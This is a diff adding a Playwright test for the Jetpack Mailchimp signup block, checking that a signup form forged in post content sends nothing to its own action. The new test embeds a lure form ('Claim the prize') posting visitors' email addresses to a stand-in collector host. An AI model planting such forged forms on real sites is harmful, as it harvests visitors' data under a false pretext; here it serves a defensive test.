@@ -3,7 +3,8 @@
  * tested in mailchimp.spec.ts), the site connected through Settings → Blockpack to a fake
  * Mailchimp on 127.0.0.1 (tests/fake-mailchimp). With JavaScript: "processing" while the button
  * is disabled, then the success; an error keeps the address typed. Without JavaScript: the form
- * posts, and the page comes back with the message.
+ * posts, and the page comes back with the message. A signup form forged in the content sends
+ * nothing to its own action.
  */
 import {
 	connectMailchimp,
@@ -13,7 +14,14 @@ import {
 	type FakeMailchimp,
 } from '../../fake-mailchimp';
 import type { APIRequestContext } from '@playwright/test';
-import { test, expect, visitPost } from '../utils';
+import {
+	test,
+	expect,
+	recordCollector,
+	submitForged,
+	COLLECTOR,
+	visitPost,
+} from '../utils';
 
 const CONTENT = `<!-- wp:jetpack/mailchimp {"successLabel":"Welcome aboard!"} -->
 <div class="wp-block-jetpack-mailchimp"><!-- wp:jetpack/button {"element":"button","uniqueId":"mailchimp-widget-id","text":"Join my email list"} /--></div>
@@ -148,5 +156,63 @@ test.describe( 'Mailchimp signup, for visitors', () => {
 		expect( new URL( page.url() ).hash ).toBe( `#mailchimp-${ postId }-0` );
 		expect( fake.member( 'nojs@example.com' )?.status ).toBe( 'pending' );
 		await context.close();
+	} );
+
+	test( 'a signup form forged in the content never sends the address typed to its action; the real form still subscribes', async ( {
+		visitor,
+		requestUtils,
+	} ) => {
+		// Written as raw HTML (a contributor gets the same on sites whose kses allows forms).
+		const forged = ( await requestUtils.rest( {
+			method: 'POST',
+			path: '/wp/v2/posts',
+			data: {
+				title: 'Forged signup',
+				status: 'publish',
+				content: `<!-- wp:html -->
+<div class="wp-block-jetpack-mailchimp"><form method="post" action="${ COLLECTOR }/subscribe"><input type="email" name="email" aria-label="Your email for the prize" /><button type="submit">Claim the prize</button></form></div>
+<!-- /wp:html -->
+
+${ CONTENT }`,
+			},
+		} ) ) as { id: number };
+		const collected = await recordCollector( visitor, {
+			code: 'subscribed',
+		} );
+		try {
+			await visitPost( visitor, forged.id );
+			await visitor
+				.getByRole( 'textbox', { name: 'Your email for the prize' } )
+				.fill( 'prize@example.com' );
+			await submitForged(
+				visitor,
+				visitor.getByRole( 'button', { name: 'Claim the prize' } ),
+				'mailchimp/subscribe'
+			);
+			expect( collected ).toEqual( [] );
+			expect( fake.member( 'prize@example.com' ) ).toBeFalsy();
+
+			await visitor
+				.getByRole( 'textbox', { name: 'Enter your email' } )
+				.fill( 'real@example.com' );
+			await visitor
+				.getByRole( 'button', { name: 'Join my email list' } )
+				.click();
+			await expect(
+				visitor
+					.getByRole( 'status' )
+					.filter( { hasText: 'Welcome aboard!' } )
+			).toBeVisible();
+			expect( fake.member( 'real@example.com' )?.status ).toBe(
+				'pending'
+			);
+			expect( collected ).toEqual( [] );
+		} finally {
+			await requestUtils.rest( {
+				method: 'DELETE',
+				path: `/wp/v2/posts/${ forged.id }`,
+				params: { force: true },
+			} );
+		}
 	} );
 } );
